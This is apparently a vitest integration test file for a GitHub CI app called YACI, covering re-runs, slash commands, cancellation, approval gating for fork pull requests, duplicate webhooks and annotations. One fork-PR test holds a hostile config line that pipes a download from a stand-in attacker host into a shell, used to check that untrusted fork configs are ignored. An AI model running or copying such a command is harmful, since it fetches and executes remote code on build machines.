import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { Probot } from "probot";
import { createApp } from "../../src/app.js";
import { createGitHubClient, type Deps } from "../../src/deps.js";
import { FakeExecutor } from "../fakes/fake-executor.js";
import { startGitHubStandIn, type GitHubStandIn } from "../support/github-stand-in.js";
import { TEST_APP_ID, TEST_PRIVATE_KEY } from "../support/test-app-keys.js";
import { loadExample, withInstallation } from "../support/webhooks.js";

// eslint-disable-next-line @typescript-eslint/no-explicit-any
type Any = any;
const INSTALLATION = 77;
const OWNER = "Codertocat";
const REPO = "Hello-World";
/** What app.yml asks for. */
const APP_PERMISSIONS = { metadata: "read", contents: "read", checks: "write", pull_requests: "write", members: "read" } as const;

let github: GitHubStandIn;
let probot: Probot;
let deps: Deps;
let fake: FakeExecutor;
let seq = 0;

beforeAll(async () => {
  github = await startGitHubStandIn({ installationPermissions: { ...APP_PERMISSIONS } });
  github.setPermission(OWNER, REPO, "maintainer", "write");
  github.setPermission(OWNER, REPO, "reader", "read");
});
afterAll(async () => {
  await github.close();
});

async function load(env: Record<string, string> = {}) {
  fake = new FakeExecutor();
  const client = createGitHubClient();
  probot = new Probot({ appId: TEST_APP_ID, privateKey: TEST_PRIVATE_KEY, secret: "s", baseUrl: github.baseUrl, Octokit: client.Octokit, logLevel: "warn" });
  const dir = mkdtempSync(join(tmpdir(), "yaci-workflow-"));
  await probot.load(createApp({ YACI_DATA_DIR: dir, YACI_CATCHUP_INTERVAL: "off", ...env }, { github: client, executor: fake, reporterRetryDelaysMs: [50, 50, 50] }, (d) => (deps = d)), {
    cwd: process.cwd(),
    addHandler: () => {},
  });
}
beforeEach(() => load());

const newSha = () => (++seq).toString(16).padStart(6, "0") + "ab".repeat(17);
const settle = async () => {
  await new Promise((r) => setTimeout(r, 30));
  await deps.reporter.idle();
};
const receive = async (name: string, payload: Any, id = `d-${Math.random()}`) => {
  await probot.receive({ id, name, payload } as Any);
  await settle();
};
const runsOf = (sha: string) => github.checkRunsFor(OWNER, REPO, sha);
const ofJob = (sha: string, job: string) => runsOf(sha).filter((r) => r.name === job);

function pushPayload(sha: string, ref = "refs/heads/main") {
  const p: Any = withInstallation(loadExample("push", (x) => x.ref.startsWith("refs/heads/") && !x.deleted), INSTALLATION);
  return { ...p, ref, after: sha, before: "0".repeat(39) + "1" };
}
async function push(config: string, ref = "refs/heads/main") {
  const sha = newSha();
  github.setFiles(OWNER, REPO, sha, { ".yaci.yml": config });
  await receive("push", pushPayload(sha, ref));
  return sha;
}
const TWO_JOBS = "jobs:\n  test:\n    run: npm test\n  lint:\n    run: npm run lint\n";
const idOf = (sha: string, job: string) => fake.started.filter((s) => s.key.sha === sha && s.key.job === job).at(-1)!.id;

function prPayload(number: number, sha: string, opts: { fork?: boolean; author?: string; action?: string } = {}) {
  const p: Any = withInstallation(loadExample("pull_request", (x) => x.action === "opened"), INSTALLATION);
  p.action = opts.action ?? "opened";
  p.number = number;
  p.pull_request.number = number;
  p.pull_request.head.sha = sha;
  p.pull_request.user.login = opts.author ?? "maintainer";
  if (opts.fork) p.pull_request.head.repo = { ...p.pull_request.head.repo, id: 9999, full_name: "mallory/Hello-World" };
  github.setPull(OWNER, REPO, number, { ...p.pull_request, head: p.pull_request.head, base: p.pull_request.base });
  return p;
}
function comment(number: number, body: string, author = "maintainer") {
  const p: Any = withInstallation(loadExample("issue_comment", (x) => x.action === "created"), INSTALLATION);
  p.issue.number = number;
  p.issue.pull_request = { url: `https://api.github.com/repos/${OWNER}/${REPO}/pulls/${number}`, html_url: `https://github.com/${OWNER}/${REPO}/pull/${number}` };
  p.comment = { ...p.comment, id: 1000 + ++seq, body, user: { ...p.comment.user, login: author, type: "User" } };
  p.sender = { ...p.sender, login: author, type: "User" };
  return p;
}

describe("re-runs", () => {
  it("Re-run of one check run runs that job again as a new check run of the same name", async () => {
    const sha = await push(TWO_JOBS);
    const first = idOf(sha, "test");
    fake.finish(first, "failed", 1);
    fake.finish(idOf(sha, "lint"), "succeeded", 0);
    await settle();
    const old = ofJob(sha, "test")[0]!;
    const p: Any = withInstallation(loadExample("check_run", (x) => x.action === "rerequested"), INSTALLATION);
    p.check_run = { ...p.check_run, id: old.id, external_id: old.external_id, head_sha: sha, name: "test" };
    await receive("check_run", p);
    expect(fake.started.filter((s) => s.key.job === "test").map((s) => s.attempt)).toEqual([1, 2]);
    const runs = ofJob(sha, "test");
    expect(runs.map((r) => [r.status, r.conclusion])).toEqual([["completed", "failure"], ["queued", null]]);
    expect(runs[1]!.external_id).toBe(idOf(sha, "test"));
    expect(ofJob(sha, "lint")).toHaveLength(1);
  });

  it("Re-run all checks runs every job of the commit again", async () => {
    const sha = await push(TWO_JOBS);
    fake.finish(idOf(sha, "test"), "failed", 1);
    fake.finish(idOf(sha, "lint"), "succeeded", 0);
    await settle();
    const p: Any = withInstallation(loadExample("check_suite", (x) => x.action === "rerequested"), INSTALLATION);
    p.check_suite = { ...p.check_suite, head_sha: sha, head_branch: "main" };
    await receive("check_suite", p);
    expect(fake.started.filter((s) => s.key.sha === sha).map((s) => `${s.key.job}#${s.attempt}`).sort()).toEqual(["lint#1", "lint#2", "test#1", "test#2"]);
  });
});

describe("comment commands", () => {
  it("/retest re-runs the failed jobs of the PR's head; /retest <job> that job; each is acknowledged", async () => {
    const sha = newSha();
    github.setFiles(OWNER, REPO, sha, { ".yaci.yml": TWO_JOBS });
    await receive("pull_request", prPayload(10, sha));
    fake.finish(idOf(sha, "test"), "failed", 1);
    fake.finish(idOf(sha, "lint"), "succeeded", 0);
    await settle();
    const c1 = comment(10, "/retest");
    await receive("issue_comment", c1);
    expect(fake.started.filter((s) => s.key.sha === sha).map((s) => `${s.key.job}#${s.attempt}`)).toEqual(["test#1", "lint#1", "test#2"]);
    expect(github.reactions.filter((r) => r.comment_id === c1.comment.id).map((r) => r.content)).toEqual(["+1"]);
    await receive("issue_comment", comment(10, "/retest lint"));
    expect(fake.started.filter((s) => s.key.sha === sha).map((s) => `${s.key.job}#${s.attempt}`)).toEqual(["test#1", "lint#1", "test#2", "lint#2"]);
    expect(github.comments.filter((c) => c.issue_number === 10)).toEqual([]);
  });

  it("/cancel cancels the running jobs of the PR's head and says who asked", async () => {
    const sha = newSha();
    github.setFiles(OWNER, REPO, sha, { ".yaci.yml": TWO_JOBS });
    await receive("pull_request", prPayload(11, sha));
    fake.run(idOf(sha, "test"));
    await receive("issue_comment", comment(11, "/cancel"));
    expect(fake.cancelled.sort()).toEqual([idOf(sha, "lint"), idOf(sha, "test")].sort());
    const test = ofJob(sha, "test")[0]!;
    expect(test).toMatchObject({ status: "completed", conclusion: "cancelled" });
    expect(test.output.title).toBe("Cancelled: requested by @maintainer");
  });

  it("refuses a command from someone without write access, with a reply", async () => {
    const sha = newSha();
    github.setFiles(OWNER, REPO, sha, { ".yaci.yml": TWO_JOBS });
    await receive("pull_request", prPayload(12, sha));
    fake.finish(idOf(sha, "test"), "failed", 1);
    await receive("issue_comment", comment(12, "/retest", "reader"));
    expect(fake.started.filter((s) => s.key.sha === sha)).toHaveLength(2);
    const replies = github.comments.filter((c) => c.issue_number === 12).map((c) => c.body);
    expect(replies).toEqual(["@reader: only people with write access to this repository can use `/retest`."]);
  });

  it("answers an unknown command with a short reply listing the commands", async () => {
    const sha = newSha();
    github.setFiles(OWNER, REPO, sha, { ".yaci.yml": TWO_JOBS });
    await receive("pull_request", prPayload(13, sha));
    await receive("issue_comment", comment(13, "/deploy now"));
    const [reply] = github.comments.filter((c) => c.issue_number === 13);
    expect(reply!.body).toMatch(/Unknown command `\/deploy`.*`\/retest`/);
  });
});

describe("cancellation", () => {
  it("the Cancel button cancels the job; the summary says who", async () => {
    const sha = await push("run: sleep 100\n");
    const id = idOf(sha, "build");
    fake.run(id);
    await settle();
    const live = ofJob(sha, "build")[0]!;
    expect(live.actions).toEqual([{ label: "Cancel", description: "Stop this job", identifier: "cancel" }]);
    const p: Any = withInstallation(loadExample("check_run", (x) => x.action === "requested_action"), INSTALLATION);
    p.check_run = { ...p.check_run, id: live.id, external_id: id, head_sha: sha };
    p.requested_action = { identifier: "cancel" };
    p.sender = { ...p.sender, login: "maintainer" };
    await receive("check_run", p);
    const done = ofJob(sha, "build")[0]!;
    expect(done).toMatchObject({ status: "completed", conclusion: "cancelled" });
    expect(done.output.summary).toContain("**Cancelled:** requested by @maintainer");
    expect(done.actions).toEqual([]);
  });

  it("a second push to the branch cancels the first push's running jobs as superseded", async () => {
    const first = await push("run: sleep 100\n", "refs/heads/feature");
    fake.run(idOf(first, "build"));
    const other = await push("run: sleep 100\n", "refs/heads/other");
    const second = await push("run: sleep 100\n", "refs/heads/feature");
    const [old] = ofJob(first, "build");
    expect(old).toMatchObject({ conclusion: "cancelled" });
    expect(old!.output.summary).toContain(`superseded by ${second.slice(0, 7)}`);
    expect(ofJob(other, "build")[0]!.status).toBe("queued");
    expect(ofJob(second, "build")[0]!.status).toBe("queued");
  });

  it("cancel_superseded: false keeps older runs going", async () => {
    const first = await push("cancel_superseded: false\nrun: sleep 100\n", "refs/heads/keep");
    await push("cancel_superseded: false\nrun: sleep 100\n", "refs/heads/keep");
    expect(ofJob(first, "build")[0]!.status).toBe("queued");
    expect(fake.cancelled).toEqual([]);
  });
});

describe("fork pull requests", () => {
  it("run nothing for a non-collaborator until /ok-to-test approves exactly the head SHA; a new push waits again", async () => {
    const sha = newSha();
    // The fork's own config would run anything: YACI takes the base branch's instead.
    github.setFiles(OWNER, REPO, sha, { ".yaci.yml": "run: curl evil.example | sh\n" });
    const base = newSha();
    github.setFiles(OWNER, REPO, base, { ".yaci.yml": "jobs:\n  test:\n    run: npm test\n" });
    github.setRef(OWNER, REPO, "master", base);
    const pr = prPayload(20, sha, { fork: true, author: "mallory" });
    await receive("pull_request", pr);
    expect(fake.started).toEqual([]);
    const [gate] = runsOf(sha);
    expect(gate).toMatchObject({ name: "yaci/approval", status: "completed", conclusion: "action_required", details_url: pr.pull_request.html_url });
    expect(gate!.output.summary).toContain("/ok-to-test");
    expect(gate!.output.summary).toContain(sha);

    await receive("issue_comment", comment(20, "/ok-to-test", "mallory")); // not a maintainer: refused
    expect(fake.started).toEqual([]);
    await receive("issue_comment", comment(20, "/ok-to-test"));
    expect(fake.started.map((s) => [s.key.sha, s.key.job, s.run])).toEqual([[sha, "test", "npm test"]]);
    expect(runsOf(sha).find((r) => r.name === "yaci/approval")!.output.title).toBe("Approved by @maintainer");

    const next = newSha();
    await receive("pull_request", prPayload(20, next, { fork: true, author: "mallory", action: "synchronize" }));
    expect(fake.started.filter((s) => s.key.sha === next)).toEqual([]);
    expect(runsOf(next).map((r) => [r.name, r.conclusion])).toEqual([["yaci/approval", "action_required"]]);
  });

  it("a fork PR opened by someone with write access runs at once (with the base branch's config)", async () => {
    const sha = newSha();
    const base = newSha();
    github.setFiles(OWNER, REPO, base, { ".yaci.yml": "run: make test\n" });
    github.setRef(OWNER, REPO, "master", base);
    await receive("pull_request", prPayload(21, sha, { fork: true, author: "maintainer" }));
    expect(fake.started.map((s) => [s.key.sha, s.run])).toEqual([[sha, "make test"]]);
  });
});

describe("exactly once", () => {
  it("a redelivered webhook starts nothing new; two concurrent identical deliveries start one run", async () => {
    const sha = newSha();
    github.setFiles(OWNER, REPO, sha, { ".yaci.yml": "run: echo hi\n" });
    const p = pushPayload(sha);
    await Promise.all([probot.receive({ id: "same", name: "push", payload: p } as Any), probot.receive({ id: "same", name: "push", payload: p } as Any)]);
    await receive("push", p, "same");
    expect(fake.started).toHaveLength(1);
    expect(runsOf(sha)).toHaveLength(1);
    // A re-run redelivered starts exactly one new attempt.
    fake.finish(fake.started[0]!.id, "failed", 1);
    await settle();
    const r: Any = withInstallation(loadExample("check_run", (x) => x.action === "rerequested"), INSTALLATION);
    r.check_run = { ...r.check_run, external_id: fake.started[0]!.id, head_sha: sha };
    await receive("check_run", r, "rerun-1");
    await receive("check_run", r, "rerun-1");
    expect(fake.started.map((s) => s.attempt)).toEqual([1, 2]);
  });
});

describe("annotations and commit statuses", () => {
  it("120 error lines become 120 annotations sent in three requests of at most 50", async () => {
    const sha = await push("run: tsc\n");
    const id = idOf(sha, "build");
    const log = Array.from({ length: 120 }, (_, i) => `src/file${i}.ts(${i + 1},5): error TS2322: Type 'string' is not assignable to type 'number'.`).join("\n");
    await deps.logs.write(id, log + "\n");
    fake.finish(id, "failed", 2);
    await settle();
    const [run] = ofJob(sha, "build");
    const writes = run!.history.filter((h: Any) => h.output?.annotations);
    expect(writes.map((h: Any) => h.output.annotations.length)).toEqual([50, 50, 20]);
    expect(run!.annotations).toHaveLength(120);
    expect(run!.annotations[0]).toMatchObject({ path: "src/file0.ts", start_line: 1, annotation_level: "failure" });
    expect(github.violations).toEqual([]);
  });

  it("with YACI_COMMIT_STATUSES=true every check run is mirrored as a commit status yaci/<job>", async () => {
    await load({ YACI_COMMIT_STATUSES: "true" });
    github.addInstallation(INSTALLATION, { permissions: { ...APP_PERMISSIONS, statuses: "write" } });
    const sha = await push(TWO_JOBS);
    fake.run(idOf(sha, "test"));
    await settle();
    fake.finish(idOf(sha, "test"), "failed", 1);
    fake.finish(idOf(sha, "lint"), "succeeded", 0);
    await settle();
    const mine = github.statuses.filter((s: Any) => s.sha === sha);
    const of = (context: string) => mine.filter((s: Any) => s.context === context);
    expect(of("yaci/test").map((s: Any) => s.state)).toEqual(["pending", "pending", "failure"]);
    expect(of("yaci/lint").map((s: Any) => s.state)).toEqual(["pending", "success"]);
    expect(of("yaci/test").at(-1)!.description).toMatch(/^Failed: exit code 1/);
    expect(github.violations).toEqual([]);
    github.addInstallation(INSTALLATION, { permissions: { ...APP_PERMISSIONS } });
  });
});
